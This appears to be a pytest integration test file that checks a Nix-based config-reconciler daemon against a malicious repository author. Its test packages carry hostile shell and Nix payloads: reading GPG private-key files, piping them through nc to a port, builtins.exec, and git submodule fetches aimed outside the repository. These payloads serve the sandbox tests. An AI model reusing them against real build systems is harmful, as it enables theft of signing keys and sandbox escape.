"""A config repository's author attacks the daemon through Nix, with real Nix, git and gpg.

Each test pushes what an attacker with push access but no signing key would push,
and checks that it reaches neither the signing key, the network, nor files outside
the repository, and that the other hosts still publish.
"""

from __future__ import annotations

import contextlib
import hashlib
import http.server
import json
import os
import socket
import subprocess
import threading
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from functools import partial
from pathlib import Path

import pytest

from reconciler.config import load_config
from reconciler.wiring import open_reconciler
from tests.conftest import ConfigRepo, Signing, aci_file, cli, wait_for, write_config

pytestmark = pytest.mark.integration

GOOD = "name: good\nformats: [aci]\nservices:\n  tick: {exec: [bin/busybox, sleep, '3600']}\n"
EVIL = "name: evil\nformats: [aci]\nservices:\n  app: {package: evil, exec: [bin/busybox, sleep, '3600']}\n"


def builder(script: str, let: str = "", extra: str = "") -> str:
    """packages/evil.nix: a derivation running ``script`` in busybox sh, $bb being busybox."""
    return f"""{{ toolchain }}:
let bb = toolchain.busybox; {let}
in derivation {{
  name = "evil";
  system = "x86_64-linux";
  builder = bb;
  {extra}
  args = [ "sh" "-c" ''
    bb=${{bb}}
    $bb mkdir -p $out/etc
    {script}
  '' ];
}}
"""


def push(repo: ConfigRepo, package: str | None = None) -> str:
    repo.write("hosts/good.yaml", GOOD)
    repo.write("hosts/evil.yaml", EVIL)
    if package is not None:
        repo.write("packages/evil.nix", package)
    return repo.commit("hostile package")


def published(store: Path, host: str) -> bool:
    return (store / "hosts" / host / "latest.json").exists()


def status(cfg: Path, env: dict[str, str] | None = None) -> dict[str, object]:
    res = cli("status", "-c", str(cfg), "--json", env=env)
    assert res.returncode == 0, res.stderr
    data = json.loads(res.stdout)
    assert isinstance(data, dict)
    return data


def host_error(cfg: Path, host: str) -> str:
    hosts = status(cfg)["hosts"]
    assert isinstance(hosts, dict)
    return str(hosts[host]["error"])


def only_evil_fails(
    cfg: Path, timeout: float = 600, env: dict[str, str] | None = None
) -> tuple[subprocess.CompletedProcess[str], str]:
    """A pass of ``cfg`` (``env`` added to the environment): it fails, the good host
    publishes, the evil one does not. The pass's output, and the evil host's error."""
    res = cli("reconcile", "-c", str(cfg), timeout=timeout, env=env)
    assert res.returncode == 1, res.stdout + res.stderr
    store = load_config(cfg).store.path
    assert store is not None
    assert published(store, "good")
    assert not published(store, "evil")
    return res, host_error(cfg, "evil")


@contextlib.contextmanager
def unreached() -> Iterator[int]:
    """A port on 127.0.0.1 for a build to try; on leaving, none may have connected."""
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen(8)
        yield listener.getsockname()[1]
        listener.setblocking(False)
        # What ran is over: a connection it made would be waiting in the backlog.
        with pytest.raises(BlockingIOError):
            listener.accept()


def test_evaluation_cannot_read_the_signing_key(
    tmp_path: Path, config_repo: ConfigRepo, signing: Signing
) -> None:
    keys = signing.gnupghome / "private-keys-v1.d"
    assert any(keys.iterdir())
    push(
        config_repo,
        builder(
            "$bb printenv stolen > $out/etc/stolen",
            let=f'dir = /. + "{keys}"; stolen = builtins.concatStringsSep "" (map (n: '
            'builtins.readFile (dir + "/${n}")) (builtins.attrNames (builtins.readDir dir)));',
            extra="inherit stolen;",
        ),
    )
    cfg = write_config(tmp_path, config_repo, signing)
    res, error = only_evil_fails(cfg)
    assert "forbidden in restricted mode" in error
    # Not even the key's path is shown.
    for said in (res.stdout, res.stderr, error):
        assert str(signing.gnupghome) not in said


@pytest.mark.parametrize("how", ["absolute import", "symlink"])
def test_nothing_outside_the_repository_is_read_or_shown(
    tmp_path: Path, config_repo: ConfigRepo, signing: Signing, how: str
) -> None:
    # A file of the machine's, in Nix's view a syntax error: Nix would quote its line.
    outside = tmp_path / "shadow"
    marker = uuid.uuid4().hex
    outside.write_text(f"root:$6${marker}:19000:0:99999:7:::\n")
    if how == "symlink":
        push(config_repo)
        (config_repo.path / "packages").mkdir()
        (config_repo.path / "packages" / "evil.nix").symlink_to(outside)
        config_repo.commit("symlinked package")
    else:
        push(config_repo, f"{{ toolchain }}: import {outside}\n")
    cfg = write_config(tmp_path, config_repo, signing)
    res, error = only_evil_fails(cfg)
    assert "forbidden in restricted mode" in error and "<outside the repository>" in error
    shown = res.stdout + res.stderr + cli("status", "-c", str(cfg)).stdout + error
    assert marker not in shown
    assert str(outside) not in shown


def test_builder_reaches_no_network_and_writes_nothing_outside(
    tmp_path: Path, config_repo: ConfigRepo, signing: Signing
) -> None:
    pwned = Path("/tmp") / f"pwned-{uuid.uuid4().hex}"
    with unreached() as port:
        keys = signing.gnupghome / "private-keys-v1.d"
        push(
            config_repo,
            builder(
                f"$bb cat {keys}/* > $out/etc/stolen 2>/dev/null\n"
                f"    $bb cat {keys}/* | $bb nc -w 2 127.0.0.1 {port}\n"
                f"    echo pwned > {pwned}\n"
                "    true"
            ),
        )
        cfg = write_config(tmp_path, config_repo, signing)
        res = cli("reconcile", "-c", str(cfg))
        # The build itself succeeds: what it tried failed inside the sandbox.
        assert res.returncode == 0, res.stdout + res.stderr
    assert not pwned.exists()
    assert aci_file(tmp_path / "store", "evil", "etc/stolen") == b""
    assert status(cfg)["sandbox"] == "on"


def git(*args: str | Path) -> str:
    done = subprocess.run(["git", *map(str, args)], check=True, capture_output=True, text=True)
    return done.stdout.strip()


@contextlib.contextmanager
def served(root: Path) -> Iterator[tuple[str, list[str]]]:
    """``root`` over HTTP on 127.0.0.1: its URL and the paths asked for so far."""
    asked: list[str] = []

    class Handler(http.server.SimpleHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            super().do_GET()

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), partial(Handler, directory=str(root)))
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", asked
    finally:
        server.shutdown()
        server.server_close()
        thread.join(10)


def test_evaluation_runs_no_git_that_a_committed_repository_points_anywhere(
    tmp_path: Path, config_repo: ConfigRepo, signing: Signing
) -> None:
    """A bare git repository is plain files, committed like any: builtins.fetchGit of
    it ran git as the daemon, configured by the attacker, and with submodules fetched
    whatever URL its .gitmodules named (restricted mode checks the URL fetchGit is
    given, not the submodules'), here a repository of the machine's served over HTTP."""
    marker = uuid.uuid4().hex
    outside = tmp_path / "outside"
    git("init", "-q", outside)
    (outside / "secret.txt").write_text(marker)
    git("-C", outside, "add", "secret.txt")
    git("-C", outside, "-c", "user.name=o", "-c", "user.email=o@o", "commit", "-qm", "secret")
    git("clone", "-q", "--bare", outside, tmp_path / "www" / "outside.git")
    git("-C", tmp_path / "www" / "outside.git", "update-server-info")
    with served(tmp_path / "www") as (url, asked):
        inner = tmp_path / "inner"
        git("init", "-q", inner)
        (inner / ".gitmodules").write_text(f'[submodule "s"]\n\tpath = s\n\turl = {url}/outside.git\n')
        git("-C", inner, "add", ".gitmodules")
        git(
            "-C",
            inner,
            "update-index",
            "--add",
            "--cacheinfo",
            f"160000,{git('-C', outside, 'rev-parse', 'HEAD')},s",
        )
        git("-C", inner, "-c", "user.name=i", "-c", "user.email=i@i", "commit", "-qm", "vendored")
        sub = config_repo.path / "vendor" / "sub"
        git("clone", "-q", "--bare", inner, sub)
        # Its refs as a loose file: git takes a directory without refs/ for none, and an
        # empty one is not committed.
        head = (sub / "HEAD").read_text().split()[-1]
        (sub / head).parent.mkdir(parents=True, exist_ok=True)
        (sub / head).write_text(git("-C", inner, "rev-parse", "HEAD") + "\n")
        push(
            config_repo,
            builder(
                "$bb cp ${src}/s/secret.txt $out/etc/secret",
                let="src = builtins.fetchGit { url = ../vendor/sub; submodules = true; };",
            ),
        )
        cfg = write_config(tmp_path, config_repo, signing)
        _, error = only_evil_fails(cfg)
        assert asked == []
    assert "executing 'git'" in error, error
    assert marker not in error


# What an operator's Nix configuration may enable (nix.conf, or NIX_CONFIG in the
# daemon's environment), and what evaluation would then offer a package: flakes'
# fetchTree copies any file the daemon can read into the store, restricted mode or
# not; unsafe native code runs any command as the daemon.
NIX_CONFIG_ATTACKS = {
    "flakes": (
        "experimental-features = nix-command flakes",
        'stolen = builtins.readFile ((builtins.fetchTree { type = "path"; path = "KEYS"; }).outPath'
        ' + "/KEY");',
        "experimental Nix feature 'flakes' is disabled",
    ),
    "unsafe native code": (
        "allow-unsafe-native-code-during-evaluation = true",
        'stolen = builtins.exec [ "sh" "-c"'
        ' "touch PWNED; echo \\"\\\\\\"$(base64 -w0 KEYS/KEY)\\\\\\"\\"" ];',
        "attribute 'exec' missing",
    ),
}


@pytest.mark.parametrize("attack", list(NIX_CONFIG_ATTACKS.values()), ids=list(NIX_CONFIG_ATTACKS))
def test_evaluation_offers_nothing_an_operators_nix_configuration_enables(
    tmp_path: Path, config_repo: ConfigRepo, signing: Signing, attack: tuple[str, str, str]
) -> None:
    setting, let, refused = attack
    keys = signing.gnupghome / "private-keys-v1.d"
    key = next(keys.iterdir()).name
    pwned = tmp_path / f"pwned-{uuid.uuid4().hex}"
    let = let.replace("KEYS", str(keys)).replace("KEY", key).replace("PWNED", str(pwned))
    push(config_repo, builder('echo "$stolen" > $out/etc/stolen', let=let, extra="inherit stolen;"))
    cfg = write_config(tmp_path, config_repo, signing)
    _, error = only_evil_fails(cfg, env={"NIX_CONFIG": setting})
    assert refused in error, error
    assert not pwned.exists()


def test_evaluation_loads_no_plugin_of_the_operators_nix_configuration(
    tmp_path: Path, config_repo: ConfigRepo, signing: Signing
) -> None:
    """A plugin adds builtins restricted mode knows nothing of (nix-plugins' exec among
    them). None can be built here; one that does not exist shows whether Nix tries."""
    push(config_repo, builder("true"))
    cfg = write_config(tmp_path, config_repo, signing)
    planned = cli(
        "plan", "-c", str(cfg), env={"NIX_CONFIG": f"plugin-files = {tmp_path / 'no-such-plugin.so'}"}
    )
    assert planned.returncode == 0, planned.stdout + planned.stderr
    assert "good: rebuild" in planned.stdout and "plugin" not in planned.stdout + planned.stderr


# A fixed-output derivation: Nix gives its build the network (the output's hash is
# checked only after), and `__noChroot` asks for no sandbox where Nix's is relaxed.
NETWORK_ATTRS = {
    "fixed output": 'outputHashMode = "flat"; outputHashAlgo = "sha256"; outputHash = "' + "0" * 64 + '";',
    "fixed output, recursive": (
        'outputHashMode = "recursive"; outputHashAlgo = "sha256"; outputHash = "' + "0" * 64 + '";'
    ),
    "no chroot": "__noChroot = true;",
    # Nix's daemon inside the build, to build the above: where an operator enabled it
    # (ENABLED), as here.
    "recursive nix": 'requiredSystemFeatures = [ "recursive-nix" ];',
}
ENABLED = {
    NETWORK_ATTRS["recursive nix"]: (
        "extra-experimental-features = recursive-nix\nextra-system-features = recursive-nix"
    )
}


@pytest.mark.parametrize("attrs", list(NETWORK_ATTRS.values()), ids=list(NETWORK_ATTRS))
@pytest.mark.parametrize("depth", ["the package", "a dependency of the package", "one of 1,200 dependencies"])
def test_no_derivation_that_nix_would_build_with_the_network_is_built(
    tmp_path: Path, config_repo: ConfigRepo, signing: Signing, attrs: str, depth: str
) -> None:
    with unreached() as port:
        call = f"echo reached | $bb timeout 5 $bb nc 127.0.0.1 {port}; $bb mkdir -p $out"
        if depth == "the package":
            package = builder(call, extra=attrs)
        else:
            dep = (
                f'dep = derivation {{ name = "dep"; system = "x86_64-linux"; builder = bb; {attrs}'
                f' args = [ "sh" "-c" "bb=${{bb}}; {call}" ]; }};'
            )
            if depth == "a dependency of the package":
                package = builder("$bb ls ${dep} > /dev/null", let=dep)
            else:
                # More derivations than one read of the closure takes (SHOW_BATCH).
                many = (
                    'many = builtins.genList (i: derivation { name = "plain-${toString i}";'
                    ' system = "x86_64-linux"; builder = bb; args = [ "sh" "-c" "$bb mkdir $out" ]; })'
                    " 1200 ++ [ dep ];"
                )
                package = builder("$bb ls ${toString many} > /dev/null", let=dep + " " + many)
        push(config_repo, package)
        cfg = write_config(tmp_path, config_repo, signing)
        enabled = {"NIX_CONFIG": ENABLED[attrs]} if attrs in ENABLED else None
        _, error = only_evil_fails(cfg, env=enabled)
    assert "network" in error or "sandbox" in error, error


def test_a_fixed_output_derivation_already_in_the_store_is_not_built_and_passes(
    tmp_path: Path, config_repo: ConfigRepo, signing: Signing
) -> None:
    """As the nixpkgs toolchain's bootstrap sources are: fetched before, by the operator."""
    source = tmp_path / "fetched"
    source.write_text(f"fetched {uuid.uuid4().hex}\n")
    subprocess.run(["nix-store", "--add-fixed", "sha256", str(source)], check=True, capture_output=True)
    digest = hashlib.sha256(source.read_bytes()).hexdigest()
    fetched = (
        f'fetched = derivation {{ name = "fetched"; system = "x86_64-linux"; builder = bb;'
        f' outputHashMode = "flat"; outputHashAlgo = "sha256"; outputHash = "{digest}"; }};'
    )
    push(config_repo, builder("$bb cp ${fetched} $out/etc/fetched", let=fetched))
    cfg = write_config(tmp_path, config_repo, signing)
    res = cli("reconcile", "-c", str(cfg))
    assert res.returncode == 0, res.stdout + res.stderr
    assert aci_file(tmp_path / "store", "evil", "etc/fetched") == source.read_bytes()


# About 10^10 additions: hours of evaluation, in constant memory.
SPIN = (
    "builtins.foldl' (a: _: builtins.foldl' (x: _: x + 1) a (builtins.genList (x: x) 100000))"
    " 0 (builtins.genList (x: x) 100000)"
)


@pytest.mark.parametrize(
    ("package", "setting", "error"),
    [
        (builder("$bb sleep 600"), {"build_timeout": "3s"}, "timed out after 3 seconds"),
        # 64 MiB of output against a 48 MiB limit (a host's own closure is about 20 MiB).
        (
            builder("$bb dd if=/dev/zero of=$out/etc/big bs=1M count=64 2>/dev/null"),
            {"max_output_size": "48M"},
            "over nix.max_output_size (50331648 bytes)",
        ),
        (
            builder("true", let=f"n = {SPIN};", extra="inherit n;"),
            {"eval_timeout": "2s"},
            "evaluation took longer than 2s and was stopped",
        ),
    ],
    ids=["build deadline", "output size", "evaluation deadline"],
)
def test_a_limit_fails_only_the_host_that_breaks_it(
    tmp_path: Path,
    config_repo: ConfigRepo,
    signing: Signing,
    package: str,
    setting: dict[str, str],
    error: str,
) -> None:
    push(config_repo, package)
    cfg = write_config(tmp_path, config_repo, signing, nix={"toolchain_dir": _toolchain(), **setting})
    assert error in only_evil_fails(cfg, timeout=300)[1]
    # Nothing refused stays rooted (the host's root is its last good build's, if any):
    # the store's garbage collector may take it back.
    assert [root.name for root in (tmp_path / "state" / "gcroots").iterdir()] == ["good"]


def _toolchain() -> str:
    from tests.conftest import TOOLCHAIN_DIR

    return str(TOOLCHAIN_DIR)


# -- a real multi-user Nix daemon with build users, started by the tests ---------


@dataclass
class NixDaemon:
    socket: Path
    log: Path

    @property
    def env(self) -> dict[str, str]:
        """What a client needs to build through this daemon only."""
        return {"NIX_REMOTE": "daemon", "NIX_DAEMON_SOCKET_PATH": str(self.socket)}


def _nix_daemon(tmp_path: Path, settings: str) -> Iterator[NixDaemon]:
    conf = tmp_path / "nix-daemon-conf"
    conf.mkdir()
    (conf / "nix.conf").write_text(f"build-users-group = nixbld\nsubstituters =\n{settings}")
    sock = tmp_path / "nix-daemon.socket"
    log = tmp_path / "nix-daemon.log"
    env = {**os.environ, "NIX_CONF_DIR": str(conf), "NIX_DAEMON_SOCKET_PATH": str(sock)}
    with log.open("w") as out:
        proc = subprocess.Popen(["nix-daemon"], env=env, stdout=out, stderr=subprocess.STDOUT)
    try:
        wait_for(sock.exists, 30, "the nix-daemon's socket")
        yield NixDaemon(sock, log)
    finally:
        proc.terminate()
        proc.wait(timeout=30)


@pytest.fixture
def sandboxing_daemon(tmp_path: Path) -> Iterator[NixDaemon]:
    """Production's Nix: a daemon with build users and the sandbox on."""
    yield from _nix_daemon(tmp_path, "sandbox = true\n")


@pytest.fixture
def unsandboxed_daemon(tmp_path: Path) -> Iterator[NixDaemon]:
    """A daemon that builds unsandboxed and trusts no client to ask otherwise."""
    yield from _nix_daemon(tmp_path, "sandbox = false\ntrusted-users =\n")


def test_reconcile_through_a_nix_daemon_with_build_users(
    tmp_path: Path, config_repo: ConfigRepo, signing: Signing, sandboxing_daemon: NixDaemon
) -> None:
    push(config_repo, builder("echo ok > $out/etc/ok"))
    cfg = write_config(tmp_path, config_repo, signing)
    res = cli("reconcile", "-c", str(cfg), env=sandboxing_daemon.env)
    assert res.returncode == 0, res.stdout + res.stderr
    assert published(tmp_path / "store", "good") and published(tmp_path / "store", "evil")
    assert aci_file(tmp_path / "store", "evil", "etc/ok") == b"ok\n"
    assert status(cfg)["sandbox"] == "on"
    # The builds went through this daemon: it logs every client it accepts.
    assert "accepted connection" in sandboxing_daemon.log.read_text()


def test_a_nix_that_builds_unsandboxed_is_refused_unless_the_config_opts_out(
    tmp_path: Path, config_repo: ConfigRepo, signing: Signing, unsandboxed_daemon: NixDaemon
) -> None:
    keys = signing.gnupghome / "private-keys-v1.d"
    push(config_repo, builder(f"$bb cat {keys}/* > $out/etc/stolen 2>/dev/null; true"))
    env = unsandboxed_daemon.env
    cfg = write_config(tmp_path, config_repo, signing)
    for command in ("reconcile", "run"):
        res = cli(command, "-c", str(cfg), env=env, timeout=120)
        assert res.returncode == 1
        assert "nix.sandbox: Nix builds unsandboxed here" in res.stderr
        assert len(res.stderr.strip().splitlines()[-1]) < 400
    assert not (tmp_path / "store" / "hosts").exists()

    # The explicit opt-out: builds run, unsandboxed, and status and metrics say so.
    cfg = write_config(tmp_path, config_repo, signing, nix={"toolchain_dir": _toolchain(), "sandbox": False})
    res = cli("reconcile", "-c", str(cfg), env=env)
    assert res.returncode == 0, res.stdout + res.stderr
    assert status(cfg)["sandbox"] == "off"
    assert "sandbox: off" in cli("status", "-c", str(cfg)).stdout
    with pytest.MonkeyPatch.context() as mp:
        for k, v in env.items():
            mp.setenv(k, v)
        rec = open_reconciler(load_config(cfg))
        try:
            rec.check_sandbox()
            assert rec.metrics.registry.get_sample_value("reconciler_build_sandbox") == 0
        finally:
            rec.close()
    # Even unsandboxed, the builder runs as a build user: the key's directory (0700,
    # the daemon's own user) stays out of its reach.
    assert os.stat(signing.gnupghome).st_mode & 0o077 == 0
    assert aci_file(tmp_path / "store", "evil", "etc/stolen") == b""


@pytest.mark.parametrize("read", ["../hosts/good.yaml", "../profiles/base.yaml"])
def test_a_package_reads_no_host_or_profile_file(
    tmp_path: Path, config_repo: ConfigRepo, signing: Signing, read: str
) -> None:
    # The evaluation cache keys a package on everything outside hosts/ and profiles/: a
    # package that could read a host file would keep its old content when that changed.
    config_repo.write("profiles/base.yaml", "network: {dns: [10.0.0.53]}\n")
    push(
        config_repo,
        builder(
            'echo "$seen" > $out/etc/seen',
            let=f"seen = builtins.readFile {read};",
            extra="inherit seen;",
        ),
    )
    cfg = write_config(tmp_path, config_repo, signing)
    planned = cli("plan", "-c", str(cfg))
    folder = read.split("/")[1]
    assert f"getting status of '{folder}': No such file or directory" in only_evil_fails(cfg)[1]
    # What `reconciler plan` said of the host beforehand.
    said = f"evil: invalid: nix evaluation failed: package evil: error: getting status of '{folder}'"
    assert said in planned.stdout, planned.stdout
